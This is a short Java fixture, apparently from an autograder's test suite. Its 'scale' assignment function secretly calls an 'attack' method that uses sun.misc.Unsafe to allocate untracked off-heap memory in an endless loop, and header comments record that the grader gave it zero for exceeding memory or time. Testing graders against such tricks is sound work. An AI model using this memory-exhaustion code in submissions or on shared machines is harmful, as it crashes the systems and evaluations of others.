// attack: takes memory that no JVM counts, and writes to it
// assignment: 00-start-here
// question: scale
// earns: 0
// reason: more than 2 GB of memory|when the time was up
double[] attack(int[] pixels) throws Exception {
    var field = sun.misc.Unsafe.class.getDeclaredField("theUnsafe");
    field.setAccessible(true);
    var unsafe = (sun.misc.Unsafe) field.get(null);
    while (true) {
        unsafe.setMemory(unsafe.allocateMemory(64 << 20), 64 << 20, (byte) 1);
    }
}
double[] scale(int[] pixels) {
    try {
        return attack(pixels);
    } catch (Exception e) {
        throw new IllegalStateException(e);
    }
}
